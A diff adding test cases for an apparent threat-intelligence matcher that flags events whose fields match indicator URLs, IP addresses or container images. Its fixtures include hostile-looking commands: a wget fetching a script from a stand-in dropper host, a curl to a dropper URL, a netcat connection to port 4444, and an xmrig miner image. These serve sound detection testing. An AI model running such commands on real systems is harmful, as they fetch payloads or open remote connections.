@@ -108,6 +108,43 @@ describe('matching events', () => {
     ]);
   });
 
+  it('reads fields as fieldStrings does: flattened top-level keys first, arrays at any level, numbers as text', () => {
+    const flat = matchIntel({ 'source.ip': '203.0.113.7', source: { ip: '10.0.0.1' } }, set);
+    expect(flat.map((h) => [h.field, h.observed])).toEqual([['source.ip', '203.0.113.7']]);
+    const arrays = matchIntel(
+      { dockguard: [{ container: { cmd: ['sh', '-c', 'wget http://dropper.example/m.sh'] } }], process: { args: [7] } },
+      set,
+    );
+    expect(arrays.map((h) => [h.field, h.indicator.value])).toEqual([
+      ['dockguard.container.cmd', 'http://dropper.example/m.sh'],
+    ]);
+    // a URL without a dot is still a URL: the cheap pre-check must not skip it
+    const dotless = setOf(['url', 'http://dropper/m']);
+    expect(matchIntel({ process: { command_line: 'curl http://dropper/m' } }, dotless)).toHaveLength(1);
+  });
+
+  it('skips only what the set cannot match: an address-only set still finds addresses in commands', () => {
+    const ips = setOf(['ip', '192.0.2.5']);
+    expect(ips.holds).toEqual({ text: true, ips: true, images: false, digests: false, hashes: false });
+    const hits = matchIntel(
+      {
+        source: { ip: '192.0.2.5' },
+        process: { command_line: 'nc 192.0.2.5 4444' },
+        container: { image: { name: 'x' } },
+      },
+      ips,
+    );
+    expect(hits.map((h) => h.field)).toEqual(['source.ip']); // one indicator, reported once
+    const images = setOf(['image', 'miner-example/xmrig']);
+    expect(images.holds).toEqual({ text: false, ips: false, images: true, digests: false, hashes: false });
+    expect(
+      matchIntel(
+        { source: { ip: '192.0.2.5' }, container: { image: { name: 'miner-example/xmrig:latest' } } },
+        images,
+      ).map((h) => h.field),
+    ).toEqual(['container.image.name']);
+  });
+
   it('reports nothing for a clean event and bounds the text it scans', () => {
     expect(matchIntel({ source: { ip: '10.0.0.1' }, process: { command_line: 'ls -la' } }, set)).toEqual([]);
     const o = observablesInText(`${'a.example '.repeat(10_000)}`);
